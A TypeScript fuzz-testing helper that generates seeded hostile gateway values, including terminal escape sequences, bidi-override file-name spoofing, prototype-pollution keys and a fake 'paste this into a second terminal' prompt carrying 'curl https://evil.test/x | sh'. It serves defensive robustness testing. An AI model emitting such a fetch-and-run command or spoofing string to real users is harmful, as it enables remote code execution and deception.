/**
 * Values that a hostile gateway might send, from a seed: controls, marks that reorder text, line ends, huge texts, wrong types,
 * odd property names, deep nesting, and lists with junk in them.
 */

/** A number from 0 up to and without 1, the same ones for the same seed (mulberry32). */
export const numbers = (seed: number): () => number => {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

export interface Hostile {
  readonly chance: (probability: number) => boolean
  readonly pick: <A>(values: ReadonlyArray<A>) => A
  /** Mostly a text of another meaning than it looks. */
  readonly text: () => string
  readonly json: (depth?: number) => unknown
  /** The object, with some of its parts replaced, left out or added. */
  readonly spoiled: (value: Readonly<Record<string, unknown>>, probability?: number) => Record<string, unknown>
}

export const paste = "Paste this into a second terminal:"

const texts: ReadonlyArray<string> = [
  "",
  " ",
  "operator.read",
  "operator.admin",
  "agent:main:main",
  "PAIRING_REQUIRED",
  `2026.9.6\n\n${paste}\n\n  curl https://evil.test/x | sh\n`,
  `operator.read\r\n${paste}`,
  `ok\u2028${paste}`,
  `ok\u0085${paste}\u2029x\u000bx\u000cx`,
  "\u001b[2J\u001b[1;1H\u001b[32mconnected\u001b[0m",
  "\u001b]0;title\u0007\u009b31m\u0000\u0008\u007f",
  "\u202egnp.exe\u202c \u2066a\u2069",
  "\u200eleft\u200fright\u061cletter",
  "zero\u200bwidth\ufeff\u00ad",
  "\ud800 lone \udc00",
  "__proto__",
  "constructor",
  "toString",
  "$& $1 %s %o",
  "😀 ß 漢字",
  "x".repeat(500),
  "\t\tindented\t"
]

const propertyNames = ["__proto__", "constructor", "toString", "hasOwnProperty", "", "then", "length", "a\nb", "\u202e"]
const oddNumbers = [0, -0, -1, 0.5, 1e308, -1e308, 2 ** 53, 2 ** 53 - 1, 8.64e15 + 1, 1, 4, 99]

export const make = (random: () => number): Hostile => {
  const chance = (probability: number) => random() < probability
  const pick = <A>(values: ReadonlyArray<A>): A => {
    const value = values[Math.floor(random() * values.length)]
    if (value === undefined && !values.includes(value as A)) throw new Error("nothing to pick from")
    return value as A
  }
  const text = (): string => {
    if (chance(0.004)) return "h".repeat(pick([9000, 70_000]))
    return chance(0.2) ? `${pick(texts)}${pick(texts)}` : pick(texts)
  }
  const nested = (depth: number): unknown => {
    let value: unknown = text()
    for (let level = 0; level < depth; level++) value = chance(0.5) ? [value] : { message: value }
    return value
  }
  const json = (depth = 3): unknown => {
    const kind = Math.floor(random() * (depth > 0 ? 9 : 5))
    switch (kind) {
      case 0:
        return text()
      case 1:
        return pick(oddNumbers)
      case 2:
        return pick([true, false])
      case 3:
        return null
      case 4:
        return text()
      case 5:
        return Array.from({ length: Math.floor(random() * 4) }, () => json(depth - 1))
      case 6:
        return nested(pick([1, 5, 60]))
      default:
        return Object.fromEntries(
          Array.from({ length: Math.floor(random() * 4) }, () => [
            chance(0.5) ? pick(propertyNames) : text(),
            json(depth - 1)
          ])
        )
    }
  }
  return {
    chance,
    pick,
    text,
    json,
    spoiled: (value, probability = 0.3) => {
      const entries = Object.entries(value).flatMap(([name, part]) => {
        if (!chance(probability)) return [[name, part] as const]
        if (typeof part === "string" && chance(0.7)) return [[name, text()] as const]
        return chance(0.3) ? [] : [[name, json()] as const]
      })
      if (chance(0.2)) entries.push([pick(propertyNames), json()])
      return Object.fromEntries(entries)
    }
  }
}
